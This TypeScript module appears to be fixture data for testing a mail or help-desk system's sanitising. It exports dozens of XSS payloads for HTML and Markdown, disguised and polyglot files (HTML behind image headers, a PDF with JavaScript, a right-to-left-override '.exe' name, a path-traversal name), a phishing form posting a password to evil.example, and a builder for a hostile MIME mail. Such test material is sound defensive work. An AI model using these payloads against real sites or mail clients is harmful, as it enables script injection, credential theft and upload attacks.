// What somebody writes who wants a program of theirs to run in somebody else's browser.

/** Does in a page what no page of ours does. */
const RUN = "window.broken=1";

/** In comments, descriptions and mails alike: each is read as Markdown and as HTML. */
export const texts = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `"><svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,%3Csvg onload=${RUN}%3E"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<input autofocus onfocus=${RUN}><video><source onerror=${RUN}></video>`,
  `<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action=https://evil.example><input name=password type=password><button>Sign in again</button></form>`,
  `<a href="javascript:${RUN}">one</a> <a href="java&#10;script:${RUN}">two</a> <a href="&#106;avascript:${RUN}">three</a>`,
  `[one](javascript:${RUN}) [two](<javascript:${RUN}>) [three](JaVaScRiPt:${RUN}) [four](java&Tab;script:${RUN})`,
  `[five](data:text/html;base64,PHNjcmlwdD53aW5kb3cuYnJva2VuPTE8L3NjcmlwdD4=) [six](vbscript:${RUN}) [seven]\n\n[seven]: javascript:${RUN}`,
  `![eight](javascript:${RUN}) ![nine](x "\\" onerror=\\"${RUN}") ![" onerror="${RUN}](https://evil.example/pixel.png)`,
  `<javascript:${RUN}> <https://evil.example/"onmouseover="${RUN}>`,
  `[ten](https://evil.example "\\" onmouseover=${RUN} autofocus onfocus=${RUN} tabindex=1 x=\\"")`,
  "```\n</code></pre><script>" + RUN + "</script>\n```\n`</code><img src=x onerror=" + RUN + ">`",
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  `- [x] <img src=x onerror=${RUN}>\n\n> <script>${RUN}</script>\n\n# <svg/onload=${RUN}>`,
  `@<img src=x onerror=${RUN}> @sabine"><script>${RUN}</script> {{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  `<!--><img src=x onerror=${RUN}>--> <![CDATA[<script>${RUN}</script>]]> <?xml-stylesheet href="javascript:${RUN}"?>`,
  `<x onclick=${RUN} style="position:fixed;inset:0;background:url(https://evil.example/x)">x</x>`,
];

const PAGE = `<!doctype html><script>${RUN};parent.${RUN};alert(1)</script>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN};alert(1)"><script>${RUN};alert(1)</script></svg>`;
const behind = (head: number[], text: string, encoding: BufferEncoding = "utf8") => Buffer.concat([Buffer.from(head), Buffer.from(text, encoding)]);

/** Files: what they are called, and what is in them. */
export const files: [name: string, bytes: Buffer][] = [
  ["page.html", Buffer.from(PAGE)],
  ["page", Buffer.from(`<html><body onload="${RUN};alert(1)">`)],
  ["page.xhtml", Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`)],
  ["drawing.svg", Buffer.from(SVG)],
  ["styled.xml", Buffer.from(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${SVG}`)],
  ["photo.png", Buffer.from(PAGE)],
  ["behind-a-picture.png", behind([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], PAGE)],
  ["behind-a-picture.jpg", behind([0xff, 0xd8, 0xff, 0xe0], PAGE)],
  ["a-picture-and-a-program.gif", Buffer.from(`GIF89a/*${PAGE}*/=1;${RUN};alert(1)//`)],
  ["a-picture-and-a-program.webp", Buffer.from(`RIFF/*..WEBP*/=1;${RUN};alert(1)//${PAGE}`)],
  ["a-picture-and-a-program.bmp", Buffer.from(`BM=1;${RUN};alert(1)//${PAGE}`)],
  ["a-document-and-a-page.pdf", Buffer.from(`%PDF-1.7\n${PAGE}\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj`)],
  ["of-two-bytes.html", behind([0xff, 0xfe], PAGE, "utf16le")],
  ["of-seven-bits.html", Buffer.from(`+ADw-script+AD4-${RUN}+ADsAPA-/script+AD4-`)],
  ["jquery.min.js", Buffer.from(`${RUN};alert(1)`)],
  ["worker.js", Buffer.from(`self.addEventListener("fetch", (event) => event.respondWith(new Response("${RUN}")))`)],
  ["style.css", Buffer.from("* { background: url(https://evil.example/x) }")],
  ["saved.mht", Buffer.from(`MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${PAGE}\r\n--x--`)],
  [`"><img src=x onerror=${RUN}>.png`, Buffer.from(SVG)],
  ["<script>" + RUN + "</script>", Buffer.from("x")],
  ['x";filename="page.html', Buffer.from(PAGE)],
  ["two\r\nContent-Type: text/html\r\n\r\nlines.html", Buffer.from(PAGE)],
  ["invoice\u202Efdp.exe", Buffer.from("MZ")],
  ["../../../../etc/passwd", Buffer.from("root")],
  ["empty.html", Buffer.alloc(0)],
];

/** A mail with all of it, and with a picture that its text shows. */
export function mail(subject: string): string {
  const file = ([name, bytes]: [string, Buffer]) =>
    `--m\r\nContent-Type: text/html; name*=utf-8''${encodeURIComponent(name)}\r\n` +
    `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\r\nContent-Transfer-Encoding: base64\r\n\r\n` +
    `${bytes.toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n`;
  const html = Buffer.from(`<html><body onload=${RUN}><img src="cid:drawing"><p>${texts.join("</p>\n<p>")}</p></body></html>`);
  return (
    `From: "<img src=x onerror=${RUN}>" <eve@evil.example>\r\nTo: desk@kestrel.example\r\nSubject: ${subject}\r\n` +
    `Message-ID: <${subject.length}.${Date.now()}@evil.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n` +
    `--m\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n` +
    `${html.toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n` +
    `--m\r\nContent-Type: image/svg+xml\r\nContent-ID: <drawing>\r\nContent-Disposition: inline\r\n\r\n${SVG}\r\n` +
    `${files.slice(0, 6).map(file).join("")}--m--\r\n`
  );
}
